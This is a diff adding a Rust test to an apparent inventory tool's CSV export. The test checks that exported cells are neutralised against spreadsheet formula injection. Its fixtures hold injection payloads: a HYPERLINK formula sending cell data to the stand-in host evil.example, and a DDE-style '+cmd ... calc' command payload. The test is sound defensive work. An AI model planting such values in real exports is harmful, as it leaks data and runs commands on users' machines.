@@ -547,3 +547,39 @@ fn files_over_the_size_cap_and_old_spreadsheet_formats_are_refused() {
         "{r}"
     );
 }
+
+#[test]
+fn exported_csv_cells_never_run_as_formulas_and_import_back_unchanged() {
+    let (tmp, a) = store();
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
+    a.put_sku(&sku("EV-1", evil, Some("+cmd|' /C calc'!A0"), 3))
+        .unwrap();
+    a.put_sku(&sku("EV-2", "@SUM(1)", Some("'=quoted already"), 1))
+        .unwrap();
+    a.put_mapping(&mapping(
+        Site::Grip,
+        None,
+        SiteCode::Product { code: "-1+1".into() },
+        "EV-1",
+    ))
+    .unwrap();
+    let path = tmp.path().join("evil.csv");
+    export::export(&a, &path).unwrap();
+    let text = std::fs::read_to_string(&path).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    for rec in reader.records() {
+        for cell in rec.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    let (_tmp2, b) = store();
+    let report = run(&b, &path, None);
+    assert!(report.ok(), "{report}");
+    assert_eq!(snapshot(&b), snapshot(&a));
+}
